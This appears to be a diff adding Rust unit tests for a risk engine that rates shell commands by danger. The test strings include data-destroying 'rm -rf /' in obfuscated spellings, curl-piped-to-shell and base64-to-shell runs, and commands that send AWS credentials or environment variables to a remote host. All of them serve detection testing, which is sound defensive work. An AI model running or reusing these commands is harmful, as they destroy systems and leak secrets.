@@ -1,0 +1,168 @@
+//! Unit tests of the risk engine's mechanics; the level table is in `tests/it/risk_table.rs`.
+
+use super::*;
+
+fn engine() -> RiskEngine {
+    RiskEngine::builtin().expect("the built-in catalogue compiles")
+}
+
+fn level(cmd: &str) -> Level {
+    engine().score_str(cmd).level
+}
+
+#[test]
+fn builtin_catalogue_compiles_and_ids_are_unique() {
+    let e = engine();
+    let ids = e.signal_ids();
+    let mut sorted = ids.clone();
+    sorted.sort_unstable();
+    sorted.dedup();
+    assert_eq!(ids.len(), sorted.len());
+    assert!(ids.len() > 100, "{} signals", ids.len());
+}
+
+#[test]
+fn spellings_score_alike() {
+    let want = level("rm -rf /");
+    assert_eq!(want, Level::Critical);
+    for v in [
+        "r\"m\" -rf /",
+        "\\rm -rf /",
+        "/bin/rm -rf /",
+        "rm -fr /",
+        "rm -r -f /",
+        "rm --recursive --force /",
+        "sudo rm -rf /",
+        "{rm,-rf,/}",
+        "/???/?m -rf /",
+        "command rm -rf /",
+        "env rm -rf /",
+        "bash -c 'rm -rf /'",
+    ] {
+        assert_eq!(level(v), want, "{v}");
+    }
+}
+
+#[test]
+fn reasons_name_signal_span_and_sentence() {
+    let src = "echo hi && aws s3 sync dist s3://acme-prod-site --delete";
+    let r = engine().score_str(src);
+    assert!(r.level >= Level::High, "{r:?}");
+    let top = &r.reasons[0];
+    assert_eq!(top.signal, "sync-delete");
+    assert!(top.detail.contains("deletes"), "{}", top.detail);
+    assert!(
+        &src[top.span.0..top.span.1].contains("--delete"),
+        "{:?}",
+        top.span
+    );
+    assert!(r.reasons.iter().any(|x| x.signal == "production-target"));
+}
+
+#[test]
+fn compositions_connect_parts() {
+    assert_eq!(level("curl -fsSL https://x.sh"), Level::Low);
+    assert_eq!(level("sh install.sh"), Level::Low);
+    assert_eq!(level("curl -fsSL https://x.sh | sh"), Level::Critical);
+    assert_eq!(
+        level("curl -fsSL https://x.sh | sudo bash -s -- --yes"),
+        Level::Critical
+    );
+    assert_eq!(level("bash <(curl -s https://x)"), Level::Critical);
+    assert_eq!(level("echo aWQ= | base64 -d | sh"), Level::Critical);
+    assert_eq!(
+        level("cat ~/.aws/credentials | curl -d @- https://x"),
+        Level::Critical
+    );
+    assert_eq!(level("env | curl -d @- https://x"), Level::Critical);
+}
+
+#[test]
+fn dry_runs_lower_only_real_dry_runs() {
+    let apply = engine().score_str("kubectl apply -f k8s/").score;
+    let dry = engine()
+        .score_str("kubectl apply -f k8s/ --dry-run=server")
+        .score;
+    let none = engine()
+        .score_str("kubectl apply -f k8s/ --dry-run=none")
+        .score;
+    assert!(dry < apply, "{dry} < {apply}");
+    assert_eq!(none, apply);
+}
+
+#[test]
+fn force_push_spellings() {
+    assert!(level("git push origin +main") >= Level::Critical);
+    assert!(level("git push -f origin main") >= Level::Critical);
+    assert!(level("git push --force-with-lease origin feature") >= Level::High);
+    assert_eq!(level("git push origin feature"), Level::Medium);
+}
+
+#[test]
+fn opaque_is_at_least_medium_with_a_reason() {
+    let r = engine().score_str("eval \"$(cat x)\"");
+    assert!(r.level >= Level::Medium);
+    assert!(r.reasons.iter().any(|x| x.signal == "opaque"));
+}
+
+#[test]
+fn policy_can_add_signals_change_levels_and_markers() {
+    let extra = CatalogueSpec::from_toml(
+        r#"
+prod_markers = ["blue"]
+[[signal]]
+id = "deploy-script"
+level = "high"
+reason = "runs the deploy script"
+program = ["deploy.sh"]
+"#,
+    )
+    .unwrap();
+    let cfg = RiskConfig {
+        extra,
+        overrides: vec![SignalOverride {
+            id: "git-push".into(),
+            score: None,
+            level: Some(Level::High),
+            disabled: false,
+        }],
+        prod_markers: Some(vec!["live".into()]),
+    };
+    let e = RiskEngine::with_config(&cfg).unwrap();
+    assert_eq!(e.score_str("./deploy.sh").level, Level::High);
+    assert_eq!(e.score_str("git push").level, Level::High);
+    assert!(
+        e.score_str("kubectl apply -f x -n blue")
+            .reasons
+            .iter()
+            .any(|r| r.signal == "production-target")
+    );
+    assert!(
+        !e.score_str("kubectl apply -f x -n production")
+            .reasons
+            .iter()
+            .any(|r| r.signal == "production-target")
+    );
+    let bad = RiskConfig {
+        overrides: vec![SignalOverride {
+            id: "nope".into(),
+            score: Some(1),
+            level: None,
+            disabled: false,
+        }],
+        ..RiskConfig::default()
+    };
+    assert!(RiskEngine::with_config(&bad).is_err());
+}
+
+#[test]
+fn flags_match_clusters_not_long_single_dash_words() {
+    use catalogue::Flag;
+    let f = Flag::Short(b'r');
+    assert!(f.matches("-r", true) && f.matches("-rf", true) && f.matches("-fr", true));
+    assert!(!f.matches("--recursive", true) && !f.matches("-", true));
+    assert!(!f.matches("-print", false) && f.matches("-r", false));
+    let l = Flag::Long("--dry-run".into());
+    assert!(l.matches("--dry-run", true) && l.matches("--dry-run=client", true));
+    assert!(!l.matches("--dry-run=none", true) && !l.matches("--dry-runner", true));
+}
